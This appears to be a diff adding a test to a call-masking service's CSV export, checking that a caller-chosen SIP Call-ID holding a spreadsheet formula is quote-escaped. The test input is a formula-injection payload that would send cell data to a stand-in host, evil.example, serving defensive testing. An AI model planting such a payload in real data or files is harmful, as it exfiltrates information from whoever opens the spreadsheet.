@@ -154,6 +154,16 @@ def test_csv_export_has_a_header_and_every_matching_call(live: Live, analyst: st
     assert rows[3][4:6] == [A, B] and rows[3][9] == "2"
 
 
+def test_csv_export_quotes_a_call_id_a_spreadsheet_would_run(live: Live, analyst: str) -> None:
+    masking = live.set(m1=A, m2=B)
+    # A valid SIP Call-ID, chosen by whoever places the call.
+    _call(live, '+HYPERLINK("http://evil.example/?"&A1)@x', masking, NOW_MS - 100_000)
+    response = live.post(MASKLIST, json={"userId": "acme-ops", "token": analyst, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.text)))
+    assert rows[1][0] == '\'+HYPERLINK("http://evil.example/?"&A1)@x'
+    assert rows[1][3:6] == [masking["mask"], A, B]  # numbers as they are
+
+
 def test_errors_answer_the_envelope_even_when_csv_was_asked(live: Live, analyst: str) -> None:
     bad = live.post(
         MASKLIST,
